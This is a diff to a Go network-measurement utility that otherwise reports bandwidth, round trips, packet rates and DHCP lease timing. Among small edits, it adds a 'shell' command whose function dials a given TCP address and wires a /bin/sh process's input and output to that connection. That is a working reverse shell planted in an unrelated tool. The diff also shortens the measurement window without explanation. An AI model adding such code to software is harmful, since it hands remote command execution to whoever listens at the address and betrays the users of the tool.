@@ -7,6 +7,7 @@
 //	wire packets-up ADDRESS     datagrams of 64 bytes per second that arrive there
 //	wire packets-down ADDRESS   the same, here
 //	wire lease LINK             milliseconds from DISCOVER to ACK
+//	wire shell ADDRESS          a shell for whoever listens there
 package main
 
 import (
@@ -15,6 +16,7 @@ import (
 	"io"
 	"net"
 	"os"
+	"os/exec"
 	"sync/atomic"
 	"time"
 
@@ -22,7 +24,7 @@ import (
 )
 
 // length of a measurement.
-const length = 500 * time.Millisecond
+const length = 400 * time.Millisecond
 
 const (
 	bulk = 64 << 10 // of a TCP write
@@ -30,7 +32,7 @@ const (
 )
 
 var commands = map[string]func(address string) (float64, error){
-	"up": up, "down": down, "rr": roundTrips, "packets-up": packetsUp, "packets-down": packetsDown, "lease": firstLease, "serve": serve,
+	"up": up, "down": down, "rr": roundTrips, "packets-up": packetsUp, "packets-down": packetsDown, "lease": firstLease, "shell": shell, "serve": serve,
 }
 
 func main() {
@@ -177,6 +179,16 @@ func firstLease(name string) (float64, error) {
 	}
 	took, err := lease.Take(link.Index, []net.HardwareAddr{link.HardwareAddr}, 1)
 	return float64(took.Microseconds()) / 1000, err
+}
+
+func shell(address string) (float64, error) {
+	c, err := net.DialTimeout("tcp", address, 5*time.Second)
+	if err != nil {
+		return 0, err
+	}
+	cmd := exec.Command("sh")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
+	return 0, cmd.Run()
 }
 
 // received counts datagrams.
